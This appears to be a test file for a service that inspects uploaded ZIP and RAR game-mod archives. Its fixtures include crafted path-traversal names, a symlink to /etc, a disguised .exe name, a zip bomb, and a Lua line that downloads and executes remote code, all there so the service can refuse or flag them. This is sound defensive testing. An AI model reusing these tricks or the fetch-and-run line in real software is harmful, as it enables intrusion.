import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { MIB } from '#contract/base/units.ts'
import { fileInspectionSchema } from '#contract/files/inspection.ts'
import { MAX_RAR_PIECE_BYTES } from '#server/media/archives/archive-limits.ts'
import { type ArchiveStore, openArchiveStore } from '#server/media/archives/archives.fixture.ts'
import { makeRar4, makeRar5 } from '#tests/make-rar.ts'
import { makeZip, renameInZip } from '#tests/make-zip.ts'

let store: ArchiveStore
beforeAll(async () => {
  store = await openArchiveStore()
})
afterAll(() => store.close())

const PARTS = {
  'readme.txt': 'Read me',
  'maps/': '',
  'maps/harbour.ymap': Buffer.alloc(5000, 7),
  'maps/Größe.ytyp': 'x',
}

describe('listing', () => {
  test.each([
    ['zip', 'mod.zip', async () => makeZip(PARTS)],
    ['rar4', 'mod.rar', async () => makeRar4(PARTS)],
    ['rar5', 'mod.RAR', async () => makeRar5(PARTS)],
  ] as const)('%s: every file and folder with its size', async (format, name, make) => {
    const { inspection, entries, findings } = await store.inspect(name, await make())
    expect(fileInspectionSchema.parse(inspection)).toEqual(inspection)
    expect(inspection).toMatchObject({
      format,
      fileCount: 3,
      folderCount: 1,
      unpackedSize: 5008,
      largestFile: 5000,
      isEncrypted: false,
      isTruncated: false,
    })
    expect(entries.map(({ path, size, isFolder }) => [path, size, isFolder])).toEqual([
      ['readme.txt', 7, false],
      ['maps', 0, true],
      ['maps/harbour.ymap', 5000, false],
      ['maps/Größe.ytyp', 1, false],
    ])
    expect(findings).toEqual([])
  })

  test('names with backslashes and a leading dot are shown as everybody writes them', async () => {
    const zip = renameInZip(await makeZip({ 'maps/a.ymap': 'x' }), 'maps/a', 'maps\\a')
    expect((await store.inspect('a.zip', zip)).entries[0]?.path).toBe('maps/a.ymap')
  })
})

describe('is refused:', () => {
  const zip = (parts = PARTS as Record<string, string | Buffer>) => makeZip(parts)
  const lengthened = async () => {
    // Both headers say one byte more than the compressed data has.
    const bytes = await zip({ 'a.txt': 'a'.repeat(1000) })
    for (const signature of [0x02014b50, 0x08074b50]) {
      const at = bytes.indexOf(Buffer.from(new Uint32Array([signature]).buffer))
      const place = signature === 0x02014b50 ? at + 24 : at + 12
      bytes.writeUInt32LE(10, place)
    }
    return bytes
  }
  const overlapping = async () => {
    const bytes = await zip({ 'a.txt': 'one file', 'b.txt': 'two' })
    const second = bytes.lastIndexOf(Buffer.from('504b0102', 'hex'))
    bytes.writeUInt32LE(0, second + 42)
    return bytes
  }
  const unsaid = async () => {
    const bytes = await zip({ 'a.txt': 'one file', 'b.txt': 'two' })
    bytes.writeUInt16LE(1, bytes.length - 22 + 10)
    return bytes
  }
  const bomb = async () => {
    const bytes = await zip({ 'a.bin': Buffer.alloc(100_000) })
    bytes.writeUInt32LE(300 * MIB, bytes.lastIndexOf(Buffer.from('504b0102', 'hex')) + 24)
    return bytes
  }
  const corrupt = async () => {
    const bytes = await makeZip({ 'a.txt': 'intact' }, { isCompressed: false })
    bytes.write('broken', bytes.indexOf('intact'))
    return bytes
  }

  test.each([
    ['another extension', 'mod.7z', zip, /must be a \.zip or \.rar/],
    ['a text named zip', 'mod.zip', async () => Buffer.from('PKnothing'), /does not begin/],
    ['an empty file', 'mod.zip', async () => Buffer.alloc(0), /does not begin/],
    ['a zip named rar', 'mod.rar', zip, /is really a ZIP archive/],
    ['a rar named zip', 'mod.zip', async () => makeRar5(PARTS), /is really a RAR archive/],
    ['a zip without files', 'mod.zip', () => makeZip({ 'maps/': '' }), /no files/],
    ['a zip of nothing', 'mod.zip', () => makeZip({}), /no files/],
    ['a rar without files', 'mod.rar', async () => makeRar5({}), /no files/],
    ['a cut zip', 'mod.zip', async () => (await zip()).subarray(0, -30), /damaged/],
    ['a cut rar 4', 'mod.rar', async () => makeRar4(PARTS).subarray(0, -30), /damaged/],
    ['a cut rar 5', 'mod.rar', async () => makeRar5(PARTS).subarray(0, -30), /damaged/],
    ['a zip whose data changed', 'mod.zip', corrupt, /checksum/],
    ['a zip that says less than it is', 'mod.zip', lengthened, /does not have the size it claims/],
    ['a zip whose files overlap', 'mod.zip', overlapping, /overlap/],
    ['a zip with more than it lists', 'mod.zip', unsaid, /more files than it says/],
    ['a part of a rar 4', 'mod.rar', async () => makeRar4(PARTS, { isVolume: true }), /one part/],
    ['a part of a rar 5', 'mod.rar', async () => makeRar5(PARTS, { isVolume: true }), /one part/],
    ['hidden names 4', 'mod.rar', async () => makeRar4(PARTS, { hidesNames: true }), /encrypted/],
    ['hidden names 5', 'mod.rar', async () => makeRar5(PARTS, { hidesNames: true }), /encrypted/],
    ['a link', 'mod.zip', () => makeZip({ 'a.txt': '/etc' }, { mode: 0o120777 }), /link/],
    ['a way out', 'mod.rar', async () => makeRar5({ 'a/../../b.txt': 'x' }), /outside/],
    ['a way out 4', 'mod.rar', async () => makeRar4({ '..\\b.txt': 'x' }), /outside/],
    ['a drive', 'mod.rar', async () => makeRar5({ 'C:/b.txt': 'x' }), /outside/],
    ['the root', 'mod.rar', async () => makeRar5({ '/b.txt': 'x' }), /outside/],
    [
      'a name that turns around',
      'mod.rar',
      async () => makeRar5({ 'a\u202etxt.exe': 'x' }),
      /name/,
    ],
    [
      'a way out of a zip',
      'mod.zip',
      async () => renameInZip(await makeZip({ 'aa/b.txt': 'x' }), 'aa/b', '../b'),
      /outside/,
    ],
    ['a bomb', 'bomb.zip', bomb, /can honestly hold/],
  ])('%s', async (_what, name, make, reason) => {
    expect(await store.refusal(name, await make())).toMatch(reason)
  })
})

describe('is marked:', () => {
  test.each([
    ['rar4', makeRar4],
    ['rar5', makeRar5],
  ])('%s with a password', async (_format, make) => {
    const { inspection } = await store.inspect('mod.rar', make(PARTS, { isEncrypted: true }))
    expect(inspection).toMatchObject({ isEncrypted: true, marks: ['encrypted'] })
  })

  test('a zip with a password', async () => {
    const bytes = await makeZip({ 'a.txt': 'x'.repeat(100) })
    bytes.writeUInt16LE(1, bytes.lastIndexOf(Buffer.from('504b0102', 'hex')) + 8)
    bytes.writeUInt16LE(1, 6)
    expect((await store.inspect('mod.zip', bytes)).inspection.isEncrypted).toBe(true)
  })

  test('archives and programs inside, and two files of one name', async () => {
    const parts = { 'a.zip': 'x', 'setup.exe': 'x', 'B.txt': 'x', 'b.txt': 'y' }
    const { inspection } = await store.inspect('mod.zip', await makeZip(parts))
    expect(inspection.marks).toEqual(['nested_archives', 'programs', 'duplicate_names'])
  })
})

describe('what RAR has packed', () => {
  const RESOURCE = {
    'readme.txt': 'Read me. '.repeat(2000),
    'taxi/fxmanifest.lua': "name 'Taxi'\nserver_script 'server.lua'",
    'taxi/server.lua': "PerformHttpRequest('https://example.org', function(_, t) load(t)() end)",
    'menyoo/a.xml': '<SpoonerPlacements/>',
    'menyoo/all bytes.xml': Buffer.from(Array.from({ length: 512 }, (_, index) => index % 256)),
  }
  const read = {
    marks: [],
    kinds: [{ kind: '5m-resource', folder: 'taxi', name: 'Taxi' }, { kind: 'menyoo-xml' }],
    scripts: { read: 2, unread: 0, findings: { remote_code: 1, network: 1 } },
  }
  const unread = {
    marks: ['contents_unread'],
    kinds: [{ kind: '5m-resource', folder: 'taxi', name: null }],
    scripts: { read: 0, unread: 2, findings: {} },
  }

  test.each([
    ['rar4', makeRar4, {}, read],
    ['rar5', makeRar5, {}, read],
    ['rar5, solid', makeRar5, { isSolid: true }, read],
    ['rar4, solid, which is not unpacked', makeRar4, { isSolid: true }, unread],
    ['rar4, damaged', makeRar4, { isDamaged: true }, unread],
    ['rar5, damaged', makeRar5, { isDamaged: true }, unread],
  ] as const)('%s', async (_format, make, options, expected) => {
    const archive = make(RESOURCE, { isPacked: true, ...options })
    expect((await store.inspect('mod.rar', archive)).inspection).toMatchObject(expected)
  })

  test('is not unpacked where the file is too large', async () => {
    const script = { 'taxi/fxmanifest.lua': Buffer.alloc(MAX_RAR_PIECE_BYTES, 32) }
    const { inspection } = await store.inspect('mod.rar', makeRar5(script, { isPacked: true }))
    expect(inspection.marks).toEqual(['contents_unread'])
  })
})
